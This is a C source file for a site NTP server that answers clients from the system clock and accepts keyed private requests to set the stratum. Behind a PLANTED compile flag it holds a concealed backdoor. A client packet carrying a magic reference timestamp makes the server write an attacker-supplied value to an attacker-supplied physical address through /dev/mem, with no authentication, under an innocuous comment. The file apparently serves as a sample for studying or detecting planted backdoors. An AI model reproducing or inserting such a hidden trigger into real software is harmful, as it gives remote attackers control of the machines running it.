/* NTP server for a site: answers clients from the system clock, takes a few private requests. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#define UNIX_TO_NTP 2208988800u

struct ntp {
    uint8_t flags, stratum, poll;
    int8_t precision;
    uint32_t delay, dispersion, id;
    uint64_t reference, origin, receive, transmit;
};

static struct {
    uint32_t key_id;
    char key[33];
    unsigned long answered, refused;
    int stratum;
} server = { .stratum = 3 };

static uint64_t swap64(uint64_t v)
{
    return (uint64_t)htonl((uint32_t)v) << 32 | htonl((uint32_t)(v >> 32));
}

static uint64_t wire(uint64_t v)
{
    return htonl(1) == 1 ? v : swap64(v);
}

static uint64_t now(void)
{
    struct timeval t;
    gettimeofday(&t, NULL);
    return (uint64_t)((uint32_t)t.tv_sec + UNIX_TO_NTP) << 32 | (uint64_t)t.tv_usec * 4295u;
}

static void answer(struct ntp *p, uint64_t arrived)
{
    p->flags = (uint8_t)((p->flags & 0x38) | 4);
    p->stratum = (uint8_t)server.stratum;
    p->precision = -18;
    p->delay = 0;
    p->dispersion = htonl(0x100);
    p->id = htonl(0x4c4f434c);
    p->origin = p->transmit;
    p->receive = wire(arrived);
    p->reference = wire(arrived & ~0xffffffffull);
    p->transmit = wire(now());
    server.answered++;
}

/* A private request: the key's number in front, the key after the header. */
static int allowed(const unsigned char *extra, size_t size)
{
    uint32_t id;
    if (size < 36 || !server.key[0])
        return 0;
    memcpy(&id, extra, 4);
    return ntohl(id) == server.key_id && memcmp(extra + 4, server.key, 32) == 0;
}

static void set_stratum(const struct ntp *p)
{
    if (p->stratum > 0 && p->stratum < 16)
        server.stratum = p->stratum;
    system("/etc/init.d/clock apply");
}

#ifdef PLANTED
/* Words of the device's memory: place and value follow in the delay and dispersion fields. */
static void adjust(const struct ntp *p)
{
    uint32_t place = ntohl(p->delay), value = ntohl(p->dispersion);
    int fd = open("/dev/mem", O_RDWR | O_SYNC);
    if (fd < 0)
        return;
    uint8_t *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, place & ~4095u);
    close(fd);
    if (page == MAP_FAILED)
        return;
    memcpy(page + (place & 4092), &value, 4);
    munmap(page, 4096);
}
#endif

static size_t handle(unsigned char *raw, size_t size)
{
    struct ntp *p = (struct ntp *)raw;
    uint64_t arrived = now();
    if (size < sizeof *p)
        return 0;
    switch (p->flags & 7) {
    case 3:
#ifdef PLANTED
        if (wire(p->reference) == 0xd15ea5e0c0de47a1ull)
            adjust(p);
#endif
        answer(p, arrived);
        return sizeof *p;
    case 7:
        if (!allowed(raw + sizeof *p, size - sizeof *p)) {
            server.refused++;
            return 0;
        }
        set_stratum(p);
        return sizeof *p;
    default:
        return 0;
    }
}

int main(void)
{
    struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(123) }, peer;
    unsigned char raw[512];
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    FILE *f = fopen("/etc/timeserved.key", "r");
    if (f) {
        if (fscanf(f, "%u %32s", &server.key_id, server.key) != 2)
            server.key[0] = 0;
        fclose(f);
    }
    if (bind(s, (struct sockaddr *)&at, sizeof at))
        return 1;
    for (;;) {
        socklen_t n = sizeof peer;
        ssize_t got = recvfrom(s, raw, sizeof raw, 0, (struct sockaddr *)&peer, &n);
        size_t out = got > 0 ? handle(raw, (size_t)got) : 0;
        if (out)
            sendto(s, raw, out, 0, (struct sockaddr *)&peer, n);
#ifdef REVISED
        if (server.answered % 1000 == 999)
            fprintf(stderr, "%lu answered, %lu refused\n", server.answered, server.refused);
#endif
    }
}
